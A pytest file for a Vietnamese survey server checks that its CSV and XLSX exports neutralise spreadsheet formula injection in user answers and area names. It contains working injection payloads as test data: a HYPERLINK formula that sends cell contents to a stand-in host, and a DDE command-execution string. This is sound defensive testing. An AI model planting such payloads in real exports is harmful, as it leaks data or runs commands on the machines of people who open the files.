"""Formula injection (#18): every cell khudan writes from user text (answers typed on a phone, area
names from the registry) is text in every CSV and XLSX, never a formula a spreadsheet would run.

In CSV a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
leading ``'``; a plain negative number stays a number. In XLSX such text is a string cell.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile
from pathlib import Path

import pytest
from factories import domain_sample
from openpyxl import load_workbook

from khudan.formulas import defuse
from khudan.services import areas, forms

FORMS = Path(__file__).resolve().parents[2] / "forms"
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(A1:A9)",
]  # a tab or CR before them is trimmed at ingest: test_defuse_* covers those starts
NUMBERS = ["-2.5", "-7"]
EXPORT = "/api/v1/forms/export_clash/submissions"


def escape(text: str) -> str:
    return (
        text.replace("&", "&amp;")
        .replace("<", "&lt;")
        .replace('"', "&quot;")
        .replace("\r", "&#13;")
    )


def clash_xml(n: int, note: str) -> bytes:
    """A submission of tests/forms/export_clash.md as JavaRosa writes it, the note and a repeat's
    ``index`` as the phone sent them (the server flags a wrong integer, it keeps the text)."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><data id="export_clash" version="1">'
        f"<submitter>{escape(note)}</submitter><phone>1</phone><amount>1</amount>"
        f"<note>{escape(note)}</note><item><index>{escape(note)}</index></item>"
        f"<meta><instanceID>uuid:00000000-0000-4000-8000-0000000000{n:02}</instanceID></meta></data>"
    ).encode()


@pytest.fixture
def admin(client, make_user) -> dict:
    make_user("admin1", "admin")
    r = client.post("/api/v1/sessions", json={"username": "admin1", "password": "correct horse"})
    assert r.status_code == 201, r.json
    return {"Authorization": f"Bearer {r.json['token']}"}


@pytest.fixture
def hostile_answers(publish, collector, admin):
    publish("export_clash")
    for n, note in enumerate(HOSTILE + NUMBERS):
        assert [r.status for r in collector.submit(clash_xml(n, note))] == [201]
    return admin


def get(client, headers, url) -> bytes:
    r = client.get(url, headers=headers)
    assert r.status_code == 200, r.get_data(as_text=True)[:500]
    data = r.get_data()
    r.close()  # deletes an XLSX's temporary file
    return data


def csv_table(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def column(data: bytes, header: str) -> list[str]:
    table = csv_table(data)
    at = table[0].index(header)
    return [row[at] for row in table[1:]]


def assert_text_cells_only(xlsx: bytes) -> None:
    """No sheet of the workbook holds a formula (``<f>``); strings are string cells."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert not re.search(rb"<f[ >]", z.read(name)), name


@pytest.mark.parametrize("labels", ["values", "vi", "en"])
def test_submission_csv_defuses_every_hostile_answer(client, hostile_answers, labels):
    data = get(client, hostile_answers, f"{EXPORT}.csv?labels={labels}")
    header = "note" if labels == "values" else "Ghi chú"
    assert column(data, header) == ["'" + t for t in HOSTILE] + NUMBERS


def test_repeat_tables_and_zipped_csvs_are_defused_too(client, hostile_answers):
    repeat = get(client, hostile_answers, f"{EXPORT}.csv?repeat=item")
    assert column(repeat, "index (index)") == ["'" + t for t in HOSTILE] + NUMBERS
    zipped = zipfile.ZipFile(
        io.BytesIO(get(client, hostile_answers, f"{EXPORT}.csv?attachments=true"))
    )
    assert column(zipped.read("export_clash.csv"), "note") == ["'" + t for t in HOSTILE] + NUMBERS


def test_submission_workbook_keeps_hostile_answers_as_string_cells(client, hostile_answers):
    data = get(client, hostile_answers, f"{EXPORT}.xlsx")
    assert_text_cells_only(data)
    sheet = load_workbook(io.BytesIO(data))["export_clash"]
    header = [c.value for c in sheet[1]]
    notes = [row[header.index("note")] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in notes] == HOSTILE + NUMBERS  # a text question: text
    assert {c.data_type for c in notes[: len(HOSTILE)]} == {"s"}


@pytest.fixture
def hostile_areas(db, official_areas, storage, collector, admin):
    """Thôn named like formulas in the registry, a poverty review and a cultural-family assessment
    in each."""
    with db.session() as s:
        areas.import_areas(
            s,
            [
                {"commune_code": "21607", "code": "T01", "name": HOSTILE[0]},
                {"commune_code": "21607", "code": "T02", "name": HOSTILE[3]},
            ],
        )
        s.commit()
    forms.publish_xlsform(db, storage, FORMS / "poverty_review.xlsx", validate=False)
    forms.publish_xlsform(db, storage, FORMS / "cultural_family.xlsx", validate=False)
    for xml in (
        domain_sample("pov1.xml", **{"fa22d4b7-ce38-4004-900a-b698b0fd8ee7": str(uuid.uuid4())}),
        domain_sample("cf.xml"),
    ):
        assert [r.status for r in collector.submit(xml)] == [201]
    return admin


@pytest.mark.parametrize(
    "report, code, name",
    [("poverty", "21607.T01", HOSTILE[0]), ("cultural-family", "21607.T02", HOSTILE[3])],
    ids=["poverty", "cultural-family"],
)
def test_report_files_keep_hostile_area_names_as_text(client, hostile_areas, report, code, name):
    url = f"/api/v1/reports/{report}.%s?period=2025&area=21607"
    table = csv_table(get(client, hostile_areas, url % "csv"))
    assert {row[0]: row[1] for row in table[1:]}[code] == "'" + name

    data = get(client, hostile_areas, url % "xlsx")
    assert_text_cells_only(data)
    book = load_workbook(io.BytesIO(data))
    cells = [row[1] for row in book.worksheets[0].iter_rows() if row[0].value == code]
    assert [(c.value, c.data_type) for c in cells] == [(name, "s")]


def test_defuse_leaves_numbers_and_harmless_text_alone():
    assert [defuse(t) for t in ("-2.5", "-7", "-0", "x=1", "", "Thôn Bắc")] == [
        "-2.5",
        "-7",
        "-0",
        "x=1",
        "",
        "Thôn Bắc",
    ]
    assert [defuse(t) for t in ("\t=1", "\r=1", "-", "-1e5", "--1", "+5", "=1")] == [
        "'\t=1",
        "'\r=1",
        "'-",
        "'-1e5",
        "'--1",
        "'+5",
        "'=1",
    ]


def test_official_tables_keep_hostile_names_as_text(client, hostile_areas):
    """The official tables (biểu số N) write thôn names: the list for the village meeting and the
    results table, in CSV and XLSX."""
    base = "/api/v1/reports/official/%s?period=2025&area=21607"
    table = csv_table(get(client, hostile_areas, base % "danh-sach-hop-dan.csv"))
    assert table[1][1] == "'" + HOSTILE[0]  # the thôn column, defused
    data = get(client, hostile_areas, base % "ket-qua.xlsx")
    assert_text_cells_only(data)
    book = load_workbook(io.BytesIO(data))
    names = [
        (row[1].value, row[1].data_type)
        for row in book.worksheets[0].iter_rows()
        if row[1].value in (HOSTILE[0], HOSTILE[3])
    ]
    assert names == [(HOSTILE[0], "s")]  # the thôn with a review (the other has none in 2025)
